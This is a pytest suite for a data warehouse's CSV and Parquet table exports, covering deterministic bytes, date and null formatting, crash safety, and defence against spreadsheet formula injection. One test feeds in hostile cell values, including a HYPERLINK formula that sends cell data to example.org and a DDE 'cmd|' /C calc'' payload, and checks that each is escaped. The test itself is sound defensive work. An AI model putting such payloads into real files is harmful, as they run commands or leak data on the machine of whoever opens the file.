"""Tables as files: equal bytes for equal data, nothing a spreadsheet would run, whole files."""

from __future__ import annotations

import csv
import re
import signal
import threading
from collections.abc import Sequence
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests import killed
from tests.other_processes import begin, end_of
from tests.warehouse.small_build import (
    KEYS,
    LINEAGE,
    ask,
    build,
    copied,
    export_all,
    exported,
    published,
    settings_in,
    statements,
)
from warehouse.exports import tables
from warehouse.exports.tables import export_tables, exported_fingerprint
from warehouse.published.read import Column, PublishedMissingError
from warehouse.published.write import publish
from warehouse.settings import Settings

EXPORTED = (
    *("dim_country", "mart_destination_yearly", "mart_origin_yearly"),
    *("mart_reporting_break_origins", "mart_reporting_breaks"),
)
RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return settings_in(tmp_path / "data")


def bytes_of(settings: Settings) -> dict[str, bytes]:
    """All exported files by their path."""
    return {
        str(path.relative_to(settings.exports_dir)): path.read_bytes()
        for path in sorted(settings.exports_dir.rglob("*"))
        if path.is_file()
    }


def csv_rows(settings: Settings, table: str) -> list[dict[str, str]]:
    path = settings.exports_dir / "tables" / f"{table}.csv"
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_marts_and_dimensions_are_exported_and_nothing_else(settings: Settings) -> None:
    copied(settings)
    paths = export_tables(settings)
    assert [path.name for path in paths] == [
        f"{table}.{kind}" for table in EXPORTED for kind in ("csv", "parquet")
    ]
    assert sorted((settings.exports_dir / "tables").iterdir()) == sorted(paths)


def test_parquet_holds_the_published_rows_in_their_order_with_their_types(
    settings: Settings,
) -> None:
    copied(settings)
    export_tables(settings)
    with duckdb.connect() as con:
        con.execute(f"attach '{settings.published_db}' as p (read_only)")
        for table in EXPORTED:
            path = settings.exports_dir / "tables" / f"{table}.parquet"
            one, other = con.sql(f"from p.{table}"), con.sql(f"from '{path}'")
            assert one.fetchall() == other.fetchall()
            assert (one.columns, one.types) == (other.columns, other.types)


def test_csv_holds_the_published_rows_in_their_order(settings: Settings) -> None:
    copied(settings)
    export_tables(settings)
    rows = csv_rows(settings, "mart_origin_yearly")
    expected = ask(
        settings.published_db,
        "select reference_year, counting_unit, asylum_seekers_stock, "
        "asylum_seekers_stock_change_rate from mart_origin_yearly",
    )
    assert [
        (
            int(row["reference_year"]),
            row["counting_unit"],
            int(row["asylum_seekers_stock"]) if row["asylum_seekers_stock"] else None,
            float(row["asylum_seekers_stock_change_rate"])
            if row["asylum_seekers_stock_change_rate"]
            else None,
        )
        for row in rows
    ] == expected


def test_csv_is_utf_8_with_iso_dates_utc_times_and_numbers_as_they_are(settings: Settings) -> None:
    copied(settings, asylum_name="Türkiye, the «second»")
    export_tables(settings)
    [newest] = [
        row for row in csv_rows(settings, "mart_origin_yearly") if row["reference_year"] == "2025"
    ]
    assert newest["reference_date"] == "2025-06-30"
    assert newest["retrieved_at"] == "2026-11-21T00:00:00Z"
    assert newest["asylum_seekers_stock_change"] == "-5"
    assert newest["asylum_seekers_stock_change_rate"] == "-0.25"
    assert newest["is_provisional"] == "true"
    names = [row["asylum_name"] for row in csv_rows(settings, "mart_destination_yearly")]
    assert "Türkiye, the «second»" in names
    lists = [row["groups"] for row in csv_rows(settings, "dim_country")]
    assert set(lists) == {'["a","b"]', ""} - {""}


def test_null_is_an_empty_cell_and_empty_text_a_quoted_one(settings: Settings) -> None:
    build(settings)
    statements(
        settings,
        "create table marts.dim_x as select * from (values (1, null), (2, '')) as t (id, name)",
    )
    publish(settings, lineage=LINEAGE)
    export_tables(settings)
    content = (settings.exports_dir / "tables" / "dim_x.csv").read_text("utf-8-sig")
    assert content == 'id,name\n1,\n2,""\n'


def test_times_have_their_fraction_only_where_there_is_one_and_no_zone_of_the_machine(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    build(settings)
    statements(
        settings,
        "create table marts.dim_x as select timestamptz '2025-01-01 00:00:00.5+03' as a, "
        "timestamp '2025-01-01 10:00:00' as b, null::timestamptz as c",
    )
    publish(settings, lineage=LINEAGE)
    export_tables(settings)
    content = (settings.exports_dir / "tables" / "dim_x.csv").read_text("utf-8-sig")
    assert content == "a,b,c\n2024-12-31T21:00:00.5Z,2025-01-01T10:00:00,\n"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://example.org/?x="&A1,"China")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '=1+1","=2+2',
        "=1;=2\n=3",
    ],
)
def test_a_hostile_country_name_is_text_in_the_csv_and_untouched_in_parquet(
    settings: Settings, name: str
) -> None:
    copied(settings, asylum_name=name)
    export_tables(settings)
    found = [row["country_name"] for row in csv_rows(settings, "dim_country")]
    assert "'" + name in found
    assert not [cell for cell in found if cell.startswith(RUN_BY_SPREADSHEETS)]
    assert len(found) == 5
    with duckdb.connect() as con:
        path = settings.exports_dir / "tables" / "dim_country.parquet"
        assert (name,) in con.execute(f"select country_name from '{path}'").fetchall()


@hypothesis_settings(max_examples=15, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(
        st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"])).flatmap(
            lambda text: st.sampled_from(["", *RUN_BY_SPREADSHEETS, "'", '"', ","]).map(
                lambda first: first + text
            )
        ),
        min_size=1,
        max_size=30,
    )
)
def test_any_text_comes_back_from_the_csv_but_for_the_mark_in_front_and_control_characters(
    settings: Settings, names: list[str]
) -> None:
    if not settings.published_db.exists():
        copied(settings)
    with duckdb.connect(str(settings.published_db)) as con:
        con.execute("create or replace table dim_x as select unnest(?::varchar[]) as name", [names])
    export_tables(settings)
    seen = [re.sub("[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "\ufffd", name) for name in names]
    assert [row["name"] for row in csv_rows(settings, "dim_x")] == [
        "'" + name if name.startswith(RUN_BY_SPREADSHEETS) else name for name in seen
    ]


def test_an_enum_is_text_too(settings: Settings) -> None:
    build(settings)
    statements(settings, "create table marts.dim_x as select '=1'::enum ('=1', 'b') as kind")
    publish(settings, lineage=LINEAGE)
    export_tables(settings)
    assert csv_rows(settings, "dim_x") == [{"kind": "'=1"}]


def test_equal_data_give_equal_bytes_whatever_the_order_day_and_threads(tmp_path: Path) -> None:
    exports = []
    for seed, threads in ((1, 1), (2, 4), (3, 2)):
        settings = settings_in(tmp_path / str(seed), threads=threads)
        build(settings, seed=seed)
        # Several row groups of values that compress badly.
        statements(
            settings,
            "create table marts.mart_large as select n as id, hash(n) as noise, "
            "md5(n::varchar) as text, hash(n) / 1e9 as fraction "
            f"from range(300000) as numbers (n) order by hash(n, {seed})",
        )
        publish(settings, lineage=LINEAGE, keys=KEYS | {"mart_large": ["id"]})
        export_all(settings)
        exports.append(bytes_of(settings))
    assert exports[0] == exports[1] == exports[2]
    assert len(exports[0]) == 2 * 6 + 4


def test_a_table_too_large_beside_others_is_written_alone_after_them(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied(settings)
    before = {path: path.read_bytes() for path in export_tables(settings)}
    write, alone = tables._write_table, threading.current_thread()
    asked: list[tuple[str, bool]] = []

    def out_of_memory_beside_others(
        con: duckdb.DuckDBPyConnection, table: str, columns: Sequence[Column], folder: Path
    ) -> tuple[Path, Path]:
        is_alone = threading.current_thread() is alone
        asked.append((table, is_alone))
        if table.startswith("dim_") and not is_alone:
            (folder / f"{table}.csv").write_text("half a row")
            raise duckdb.OutOfMemoryException("failed to allocate data")
        return write(con, table, columns, folder)

    monkeypatch.setattr(tables, "_write_table", out_of_memory_beside_others)
    assert {path: path.read_bytes() for path in export_tables(settings)} == before
    names = {path.stem for path in before}
    assert sorted(table for table, is_alone in asked if not is_alone) == sorted(names)
    again = [table for table, is_alone in asked if is_alone]
    assert again == [table for table, _ in asked[-len(again) :]]
    assert set(again) == {name for name in names if name.startswith("dim_")} != set()


def test_files_of_a_table_that_is_gone_are_removed_and_other_files_stay(settings: Settings) -> None:
    build(settings)
    statements(settings, "create table marts.mart_gone as select 1 as one")
    publish(settings, lineage=LINEAGE)
    export_tables(settings)
    folder = settings.exports_dir / "tables"
    assert (folder / "mart_gone.csv").exists()
    (folder / "notes.txt").write_text("mine")
    (settings.exports_dir / "report.html").write_text("another's")
    statements(settings, "drop table marts.mart_gone")
    publish(settings, lineage=LINEAGE)
    export_tables(settings)
    assert not list(folder.glob("mart_gone*"))
    assert (folder / "notes.txt").exists()
    assert (settings.exports_dir / "report.html").exists()


def test_nothing_is_exported_before_something_is_published(settings: Settings) -> None:
    build(settings)
    with pytest.raises(PublishedMissingError, match="asylum run"):
        export_all(settings)
    assert not settings.exports_dir.exists()


def test_exports_are_from_the_published_file_not_from_the_build(settings: Settings) -> None:
    copied(settings)
    statements(settings, "delete from marts.dim_country")
    export_tables(settings)
    assert len(csv_rows(settings, "dim_country")) == 5


def test_complete_exports_name_the_build_they_were_made_from(settings: Settings) -> None:
    assert exported_fingerprint(settings) is None
    copied(settings)
    export_all(settings)
    assert exported_fingerprint(settings) == LINEAGE["build_fingerprint"]


@pytest.mark.parametrize("swaps", [0, 1, 5, 6, 7])
def test_an_export_killed_at_any_swap_leaves_each_file_old_or_new_and_the_next_one_repairs(
    settings: Settings, swaps: int
) -> None:
    copied(settings, exported, asylum_name="Old")
    old = bytes_of(settings)
    published(settings, asylum_name="New")
    assert end_of(begin(killed.export, settings, swaps)) == -signal.SIGKILL
    assert exported_fingerprint(settings) is None
    torn = bytes_of(settings)
    export_all(settings)
    new = bytes_of(settings)
    assert old.keys() == new.keys()
    assert new != old
    for name in old.keys() - {".built_from"}:
        assert torn[name] in (old[name], new[name])
    assert exported_fingerprint(settings) == LINEAGE["build_fingerprint"]
    assert not [path for path in settings.exports_dir.iterdir() if path.suffix == ".tmp"]
    assert not list(settings.exports_dir.glob(".tables-*"))


def test_a_failure_while_writing_touches_no_old_file(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied(settings, asylum_name="Old")
    export_tables(settings)
    old = bytes_of(settings)
    published(settings, asylum_name="New")
    monkeypatch.setattr("warehouse.exports.tables._csv_columns", lambda *_: "no_such_column")
    with pytest.raises(duckdb.Error, match="no_such_column"):
        export_tables(settings)
    assert bytes_of(settings) == old
    assert not list(settings.exports_dir.glob(".tables-*"))
